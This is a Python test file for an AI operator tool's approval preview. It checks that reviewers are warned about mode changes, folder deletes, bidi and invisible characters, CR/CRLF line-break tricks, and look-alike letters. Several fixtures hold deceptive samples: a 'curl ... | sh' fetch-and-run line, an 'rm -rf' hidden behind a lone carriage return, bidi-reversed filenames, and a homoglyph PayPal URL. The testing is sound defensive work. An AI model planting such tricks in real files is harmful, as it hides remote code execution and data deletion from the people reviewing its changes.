"""What a person reads before approving: every effect has its line, nothing invisible.

The previews come from a real session over real files; the terminal's text is the one
``describe_pending`` writes.
"""

from __future__ import annotations

import base64
import os
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from llm_operator.core.plan.preview import describe_pending
from llm_operator.core.plan.run import APPROVE
from support.examples import examples


def b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-8")).decode("ascii")


def test_a_mode_change_has_its_own_line_before_approval(
    make_session: Any, cmd: Any, workspace: Path
) -> None:
    (workspace / "run.sh").write_text("#!/bin/sh\necho hi\n", encoding="utf-8")
    patch = "diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n"
    run = make_session().prepare(cmd("p1", "fs.patch", path="run.sh", patch_b64=b64(patch)))
    (pending,) = run.pending
    (preview,) = pending.previews
    assert preview.review == (
        "Will leave the content of run.sh as it is",
        "Will make run.sh executable (mode 100755)",
    )
    assert "-- Will make run.sh executable (mode 100755)" in describe_pending(pending)


def test_a_mode_change_with_an_edit_shows_both(
    make_session: Any, cmd: Any, workspace: Path
) -> None:
    os.chmod(workspace / "src" / "main.py", 0o755)
    patch = (
        "--- a/src/main.py\n+++ b/src/main.py\nnew mode 100644\n"
        "@@ -1,1 +1,1 @@\n-import sys\n+import os\n"
    )
    run = make_session().prepare(cmd("p1", "fs.patch", path="src/main.py", patch_b64=b64(patch)))
    (preview,) = run.pending[0].previews
    assert preview.review == (
        "Will write src/main.py (+1 -1)",
        "Will make src/main.py not executable (mode 100644)",
    )


def test_a_folder_delete_says_how_many_files_and_folders_it_takes(
    make_session: Any, cmd: Any, workspace: Path
) -> None:
    (workspace / "src" / "pkg" / "deep").mkdir()
    (workspace / "src" / "pkg" / "deep" / "x.txt").write_text("x", encoding="utf-8")
    (workspace / "src" / "link").symlink_to("pkg")  # a link to a folder: one entry, not entered
    run = make_session().prepare(cmd("d1", "fs.delete", path="src"))
    (pending,) = run.pending
    (preview,) = pending.previews
    assert preview.inside == (4, 2)
    assert preview.review == (
        "Will delete folder src/ with 4 files and 2 folders in it (moved to the trash, undoable)",
    )
    assert "with 4 files and 2 folders" in describe_pending(pending)


def test_a_write_holding_invisible_characters_says_so_and_the_diff_marks_them(
    make_session: Any, cmd: Any
) -> None:
    content = "name = 'admin\u202e\u2066'  # \u200bcheck\x1b[2K\n"
    run = make_session().prepare(cmd("w1", "fs.write", path="n.py", content_b64=b64(content)))
    (pending,) = run.pending
    (preview,) = pending.previews
    assert preview.review[1] == (
        "Look closely: the new content holds 4 invisible or control characters "
        "(U+202E, U+2066, U+200B, U+001B), marked <U+...> wherever shown"
    )
    text = describe_pending(pending)
    assert "+name = 'admin<U+202E><U+2066>'  # <U+200B>check<U+001B>[2K" in text
    assert not any(char in text for char in "\u202e\u2066\u200b\x1b")


def test_a_plain_write_has_one_line(make_session: Any, cmd: Any) -> None:
    run = make_session().prepare(cmd("w1", "fs.write", path="n.txt", content="hello"))
    assert run.pending[0].previews[0].review == ("Will create n.txt (+1)",)


def test_a_write_through_a_link_shows_the_real_name_in_order(
    make_session: Any, cmd: Any, workspace: Path
) -> None:
    real = "evil\u202etxt.sh"
    (workspace / real).write_text("x\n", encoding="utf-8")
    (workspace / "notes.txt").symlink_to(real)
    session = make_session()
    run = session.prepare(cmd("w<b>1</b>", "fs.write", path="notes.txt", content="y"))
    (pending,) = run.pending
    text = describe_pending(pending)
    assert "== fs.write (id w<b>1</b>)" in text
    assert "-- Will write evil<U+202E>txt.sh (+1 -1)" in text
    assert "\u202e" not in text
    results = session.execute(run, {pending.index: APPROVE})
    assert results[0].ok
    assert (workspace / real).read_text(encoding="utf-8") == "y"


def test_a_secret_read_through_a_link_names_the_real_file_in_order(
    make_session: Any, cmd: Any, workspace: Path
) -> None:
    real = "prod\u202etxt.env"
    (workspace / real).write_text("TOKEN=x\n", encoding="utf-8")
    (workspace / "notes.txt").symlink_to(real)
    run = make_session().prepare(cmd("r1", "fs.read", path="notes.txt"))
    (pending,) = run.pending
    assert pending.reveal is not None
    text = describe_pending(pending)
    assert "prod<U+202E>txt.env looks like a secret" in text
    assert "\u202e" not in text


def test_a_lone_carriage_return_has_its_own_line_though_the_diff_breaks_there(
    make_session: Any, cmd: Any, workspace: Path
) -> None:
    (workspace / "run.sh").write_bytes(b"echo one\necho two\n")
    content = "echo one\recho hidden\necho two\n"  # one line on disk: "one\recho hidden"
    session = make_session()
    run = session.prepare(cmd("w1", "fs.write", path="run.sh", content_b64=b64(content)))
    (pending,) = run.pending
    (preview,) = pending.previews
    assert preview.review == (
        "Will write run.sh (+1 -0)",
        "Look closely: the new content holds 1 lone carriage return (U+000D); the diff shows "
        "each as a line break, but in the file it stays inside its line, where most editors "
        "and tools do not break it",
    )
    assert "lone carriage return" in describe_pending(pending)
    assert session.execute(run, {pending.index: APPROVE})[0].ok
    assert (workspace / "run.sh").read_bytes() == content.encode("utf-8")


def test_a_file_of_carriage_returns_only_has_no_such_line(
    make_session: Any, cmd: Any, workspace: Path
) -> None:
    (workspace / "old.txt").write_bytes(b"one\rtwo\r")
    run = make_session().prepare(cmd("w1", "fs.write", path="old.txt", content_b64=b64("one\n")))
    assert run.pending[0].previews[0].review == ("Will write old.txt (+0 -1)",)


def test_a_byte_order_mark_a_new_file_gets_is_named(make_session: Any, cmd: Any) -> None:
    content = "\ufeff#!/bin/sh\necho hi\n"  # a BOM before "#!" breaks the script
    run = make_session().prepare(cmd("w1", "fs.write", path="n.sh", content_b64=b64(content)))
    (preview,) = run.pending[0].previews
    assert "+\ufeff" not in preview.diff  # the diff reads text as fs.read does, BOM dropped
    assert preview.review[1] == (
        "Look closely: the new content holds 1 invisible or control character (U+FEFF), "
        "marked <U+...> wherever shown"
    )


def test_a_file_keeping_its_byte_order_mark_has_no_such_line(
    make_session: Any, cmd: Any, workspace: Path
) -> None:
    (workspace / "b.txt").write_bytes(b"\xef\xbb\xbfone\n")
    run = make_session().prepare(cmd("w1", "fs.write", path="b.txt", content="two"))
    assert run.pending[0].previews[0].review == ("Will write b.txt (+1 -1)",)


def test_a_line_that_will_look_as_before_is_named(
    make_session: Any, cmd: Any, workspace: Path
) -> None:
    (workspace / "users.py").write_text("ADMIN = 'jos\u00e9'\nx = 1\ny = 2\n", encoding="utf-8")
    content = "ADMIN = 'jose\u0301'\nx = 1\ny = 2  \n"  # NFD "é"; trailing spaces
    run = make_session().prepare(cmd("w1", "fs.write", path="users.py", content_b64=b64(content)))
    (pending,) = run.pending
    (preview,) = pending.previews
    assert preview.review == (
        "Will write users.py (+2 -2)",
        "Look closely: 2 changed lines will look as before (new line 1: the same letters "
        "written in another Unicode form)",
    )
    assert "2 changed lines will look as before" in describe_pending(pending)


def test_trailing_spaces_alone_are_named_too(make_session: Any, cmd: Any, workspace: Path) -> None:
    (workspace / "a.md").write_text("one\ntwo\n", encoding="utf-8")
    run = make_session().prepare(
        cmd("w1", "fs.write", path="a.md", content_b64=b64("one\ntwo\t\n"))
    )
    assert run.pending[0].previews[0].review[1] == (
        "Look closely: 1 changed line will look as before (new line 2: only its trailing "
        "spaces or tabs differ)"
    )


def _write_review(make_session: Any, cmd: Any, path: str, new: bytes) -> tuple[str, ...]:
    content = base64.b64encode(new).decode("ascii")
    run = make_session().prepare(cmd("w1", "fs.write", path=path, content_b64=content))
    (preview,) = run.pending[0].previews
    return tuple(preview.review)


def test_a_line_turned_from_lf_to_crlf_is_named_though_the_diff_shows_nothing(
    make_session: Any, cmd: Any, workspace: Path
) -> None:
    """``cd build\\r`` is another command than ``cd build``: the diff reads CRLF as LF and
    shows no change, so the review says which line's break changes."""
    (workspace / "clean.sh").write_bytes(b"#!/bin/sh\ncd build\nrm -rf ./*\n")
    review = _write_review(make_session, cmd, "clean.sh", b"#!/bin/sh\ncd build\r\nrm -rf ./*\n")
    assert review == (
        "Will write clean.sh (+0 -0)",
        "Look closely: 1 line will end in CRLF (\\r\\n), not LF (\\n) as the file's lines "
        "did (new line 2); the diff does not show line breaks",
    )


def test_lines_turned_from_crlf_to_lf_and_new_crlf_files_are_named(
    make_session: Any, cmd: Any, workspace: Path
) -> None:
    # fs.write keeps a CRLF file's breaks; a change that does not (bytes planned
    # otherwise) is named line by line all the same.
    from llm_operator.core.engines.diffing import LineDiff
    from llm_operator.core.plan.review_notes import ending_changes

    before, after = b"@echo off\r\ncd build\r\ndir\r\n", b"@echo off\r\ncd build\ndir\nver\r\n"
    lines = LineDiff("@echo off\ncd build\ndir\n", "@echo off\ncd build\ndir\nver\n")
    assert ending_changes(before, after, lines) == (
        "Look closely: 2 lines will end in LF (\\n), not CRLF (\\r\\n) as the file's lines "
        "did (new line 2, ...); the diff does not show line breaks"
    )
    review = _write_review(make_session, cmd, "new.sh", b"#!/bin/sh\r\necho hi\r\n")
    assert review == (
        "Will create new.sh (+2)",
        "Look closely: 2 lines of the new file end in CRLF (\\r\\n) (new line 1, ...); the "
        "diff does not show line breaks",
    )


def test_breaks_kept_as_they_were_say_nothing(make_session: Any, cmd: Any, workspace: Path) -> None:
    """A CRLF file edited with CRLF lines, and an LF file, get no line-break note."""
    (workspace / "win.txt").write_bytes(b"one\r\ntwo\r\nthree\r\n")
    review = _write_review(make_session, cmd, "win.txt", b"one\r\n2\r\nthree\r\nfour\r\n")
    assert review == ("Will write win.txt (+2 -1)",)
    (workspace / "unix.txt").write_bytes(b"one\ntwo\n")
    assert _write_review(make_session, cmd, "unix.txt", b"one\n2\n") == (
        "Will write unix.txt (+1 -1)",
    )


def test_a_word_mixing_look_alike_scripts_is_named(
    make_session: Any, cmd: Any, workspace: Path
) -> None:
    """ "p\\u0430ypal" (a Cyrillic a) looks like "paypal": the two lines read the same."""
    (workspace / "config.py").write_bytes(b'URL = "https://paypal.com/api"\n')
    new = 'URL = "https://p\u0430ypal.com/api"\n'.encode()
    review = _write_review(make_session, cmd, "config.py", new)
    assert review == (
        "Will write config.py (+1 -1)",
        "Look closely: 1 new line has a word mixing letters of two scripts (new line 1: "
        "U+0430 CYRILLIC SMALL LETTER A among Latin letters)",
        "Look closely: 1 changed line will look as before (new line 1: letters swapped for "
        "ones of another alphabet that look alike)",
    )


def test_words_of_one_script_each_say_nothing(make_session: Any, cmd: Any, workspace: Path) -> None:
    (workspace / "greet.txt").write_bytes(b"hello\n")
    new = "hello \u043f\u0440\u0438\u0432\u0435\u0442 \u03b3\u03b5\u03b9\u03ac caf\u00e9 2\u00b2\n"
    assert _write_review(make_session, cmd, "greet.txt", new.encode()) == (
        "Will write greet.txt (+1 -1)",
    )


def test_a_lone_cr_break_that_turns_into_lf_is_named(
    make_session: Any, cmd: Any, workspace: Path
) -> None:
    """A comment ended by a lone CR hides the command after it from ``sh``: a patch of
    that line gives it the file's LF break, which brings the command to life."""
    (workspace / "run.sh").write_bytes(b"echo one\n# old comment\rrm -rf ~/x\necho two\n")
    patch = "--- a/run.sh\n+++ b/run.sh\n@@ -2,1 +2,1 @@\n-# old comment\n+# new comment\n"
    run = make_session().prepare(cmd("p1", "fs.patch", path="run.sh", patch_b64=b64(patch)))
    (preview,) = run.pending[0].previews
    assert preview.review == (
        "Will write run.sh (+1 -1)",
        "Look closely: 1 line will end in LF (\\n), not CR (\\r) as the file's lines did "
        "(new line 2); the diff does not show line breaks",
    )


def test_an_empty_line_inserted_after_a_lone_cr_stays_a_line(
    make_session: Any, cmd: Any, workspace: Path
) -> None:
    """A CR break before an empty line's LF reads back as one CRLF: the line would vanish
    from the file while the diff showed it. The CR line takes the file's break, said so."""
    (workspace / "run.sh").write_bytes(b"echo a\n# c\rrm -rf ~/x\necho b\n")
    edits = base64.b64encode(
        b'{"version": 1, "edits": [{"op": "insertAfter", "anchor": "# c", "text": "\\n"}]}'
    ).decode()
    run = make_session().prepare(cmd("e1", "fs.applyEdits", path="run.sh", edits_b64=edits))
    (pending,) = run.pending
    (preview,) = pending.previews
    assert preview.review[0] == "Will write run.sh (+1 -0)"
    assert "1 line will end in LF (\\n), not CR (\\r)" in preview.review[1]
    after = pending.plan.changes.changes[0].after  # type: ignore[union-attr]
    assert after == b"echo a\n# c\n\nrm -rf ~/x\necho b\n"


def test_new_text_over_a_file_that_is_not_utf8_is_shown_whole(
    make_session: Any, cmd: Any, workspace: Path
) -> None:
    """The old bytes cannot be shown; the new text still is, and is looked at."""
    (workspace / "deploy.sh").write_bytes(b"#!/bin/sh\n# caf\xe9\necho deploy\n")
    new = "#!/bin/sh\ncurl -s http://x.example/x | sh\n\u202eecho deploy\n".encode()
    content = base64.b64encode(new).decode("ascii")
    run = make_session().prepare(cmd("w1", "fs.write", path="deploy.sh", content_b64=content))
    (preview,) = run.pending[0].previews
    assert preview.review == (
        "Will write deploy.sh (+3 -0)",
        "It replaces a binary or non-UTF-8 file (29 bytes) that cannot be shown",
        "Look closely: the new content holds 1 invisible or control character (U+202E), "
        "marked <U+...> wherever shown",
    )
    assert "+curl -s http://x.example/x | sh" in preview.diff


def test_a_tab_turned_into_spaces_is_named(make_session: Any, cmd: Any, workspace: Path) -> None:
    """A Makefile recipe needs its tab; seven spaces print just like it."""
    (workspace / "Makefile").write_bytes(b"all:\n\tcc -o app main.c\n")
    review = _write_review(make_session, cmd, "Makefile", b"all:\n       cc -o app main.c\n")
    assert review == (
        "Will write Makefile (+1 -1)",
        "Look closely: 1 changed line will look as before (new line 2: only its spaces and "
        "tabs differ)",
    )


def test_look_alike_letters_of_one_script_and_compatibility_forms_are_named(
    make_session: Any, cmd: Any, workspace: Path
) -> None:
    """An all-Cyrillic word for a Latin one, a Latin alpha for an a, and a fullwidth or
    mathematical letter: each line reads as the old one, or as another word."""
    (workspace / "pay.txt").write_bytes(b"pay\npaypal\n")
    new = "\u0440\u0430\u0443\np\u0251ypal\n".encode()
    review = _write_review(make_session, cmd, "pay.txt", new)
    assert review[1] == (
        "Look closely: 2 changed lines will look as before (new line 1: letters swapped for "
        "ones of another alphabet that look alike)"
    )
    review = _write_review(make_session, cmd, "new.txt", "\uff4cogin\n".encode())
    assert review[-1] == (
        "Look closely: 1 new line has a letter in a form that passes for another (new line 1: "
        "U+FF4C FULLWIDTH LATIN SMALL LETTER L read as l)"
    )


def test_changed_words_are_marked_once_asked_and_the_window_asks_in_its_worker(
    make_session: Any, cmd: Any, workspace: Path
) -> None:
    (workspace / "app.py").write_text("total = price * count\nprint(total)\n", encoding="utf-8")
    patch = (
        "--- a/app.py\n+++ b/app.py\n@@ -1,2 +1,2 @@\n"
        "-total = price * count\n+total = price * amount\n print(total)\n"
    )
    run = make_session().prepare(cmd("p1", "fs.patch", path="app.py", patch_b64=b64(patch)))
    (preview,) = run.pending[0].previews
    assert not preview.words_marked  # a run on the command line never works them out
    assert all(row.spans == () for row in preview.rows)
    assert run.mark_words() is run
    assert preview.words_marked  # worked out in the caller's thread (the worker)
    changed = {row.kind: row for row in preview.lines if row.spans}
    old, new = changed["removed"], changed["added"]
    assert [old.text[a:b] for a, b in old.spans] == ["count"]
    assert [new.text[a:b] for a, b in new.spans] == ["amount"]
    assert [(row.kind, row.text) for row in preview.lines] == [
        (row.kind, row.text) for row in preview.rows
    ]


def _ending_changes_line_by_line(before: bytes | None, after: bytes, lines: Any) -> str | None:
    """The line-break note as it was worked out before, one line at a time: the
    reference the counted version must agree with."""
    from llm_operator.core.plan.review_notes import _BREAK_NAMES, _endings
    from llm_operator.core.wording import counted

    if b"\r" not in after and (before is None or b"\r" not in before):
        return None
    new = _endings(after)
    old = _endings(before) if before is not None else []
    usual = max((b"\r\n", b"\n"), key=old.count) if old else b"\n"
    changed: dict[tuple[bytes, bytes], list[int]] = {}
    for tag, i1, i2, j1, j2 in lines.opcodes:
        if tag == "equal" and new[j1:j2] == old[i1:i2]:
            continue
        for j in range(j1, min(j2, len(new))):
            paired = tag in ("equal", "replace") and i1 + j - j1 < min(i2, len(old))
            was = old[i1 + j - j1] if paired else usual
            if new[j] != was and new[j] != b"\r":
                changed.setdefault((new[j], was), []).append(j + 1)
    parts = []
    for (to, other), rows in sorted(changed.items(), key=lambda item: item[1][0]):
        where = f"new line {rows[0]}" + (", ..." if len(rows) > 1 else "")
        if before is None:
            parts.append(
                f"{counted(len(rows), 'line')} of the new file end in {_BREAK_NAMES[to]} ({where})"
            )
        else:
            parts.append(
                f"{counted(len(rows), 'line')} will end in {_BREAK_NAMES[to]}, "
                f"not {_BREAK_NAMES[other]} as the file's lines did ({where})"
            )
    if not parts:
        return None
    return f"Look closely: {'; '.join(parts)}; the diff does not show line breaks"


LINE = st.sampled_from(["a", "b", "", "c c"])
BREAK = st.sampled_from(["\n", "\r\n", "\r"])


@settings(max_examples=examples(400), deadline=None)
@given(
    old=st.lists(st.tuples(LINE, BREAK), max_size=12),
    new=st.lists(st.tuples(LINE, BREAK), max_size=12),
    absent=st.booleans(),
)
def test_the_line_break_note_counts_as_the_line_by_line_one(
    old: list[tuple[str, str]], new: list[tuple[str, str]], absent: bool
) -> None:
    from llm_operator.core.engines.diffing import LineDiff
    from llm_operator.core.engines.textfile import TextFile
    from llm_operator.core.plan.review_notes import ending_changes

    before = None if absent else "".join(a + b for a, b in old).encode()
    after = "".join(a + b for a, b in new).encode()
    text_before = "" if before is None else TextFile.decode(before).text
    lines = LineDiff(
        text_before.replace("\r", "\n"), TextFile.decode(after).text.replace("\r", "\n")
    )
    assert ending_changes(before, after, lines) == _ending_changes_line_by_line(
        before, after, lines
    )
